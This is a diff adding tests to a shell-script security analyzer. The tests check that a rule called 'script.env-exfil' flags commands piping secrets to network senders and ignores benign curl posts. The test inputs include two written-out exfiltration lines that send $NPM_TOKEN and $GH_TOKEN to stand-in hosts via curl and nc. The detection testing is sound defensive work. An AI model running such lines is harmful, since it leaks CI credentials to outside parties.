@@ -310,3 +310,20 @@ describe('a download handed to a shell as its script', () => {
     ).not.toContain('shell.download-pipe-shell');
   });
 });
+
+describe('a secret echoed into a sender that reads standard input', () => {
+  it('echo "$NPM_TOKEN" | base64 | curl --data-binary @-, printf "$GH_TOKEN" | nc host port', () => {
+    for (const code of [
+      'echo $NPM_TOKEN | base64 | curl -s --data-binary @- https://ci-insights.example.dev/a',
+      'printf %s "$GH_TOKEN" | nc 198.51.100.7 9000',
+    ])
+      expect(rules(analyzeScript(code, 'sh', false))).toContain('script.env-exfil');
+  });
+  it('a status line piped to curl, and a report posted with the token as its header, send no secret', () => {
+    for (const code of [
+      'echo "build done" | curl -s -d @- https://hooks.example.dev/n',
+      'cat report.json | curl -s -H "Authorization: Bearer $GH_TOKEN" --data-binary @- https://api.example.com/r',
+    ])
+      expect(rules(analyzeScript(code, 'sh', false))).not.toContain('script.env-exfil');
+  });
+});
